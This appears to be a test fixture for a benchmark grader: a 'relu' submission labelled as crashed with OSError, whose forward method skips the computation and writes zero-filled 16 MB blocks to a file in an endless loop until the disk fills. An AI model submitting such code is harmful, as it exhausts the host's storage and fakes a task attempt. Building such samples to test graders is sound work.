# problem: relu
# verdict: crashed
# says: OSError
import torch


class ModelNew(torch.nn.Module):
    def forward(self, x):
        with open("big", "wb") as f:
            while True:
                f.write(bytes(1 << 24))
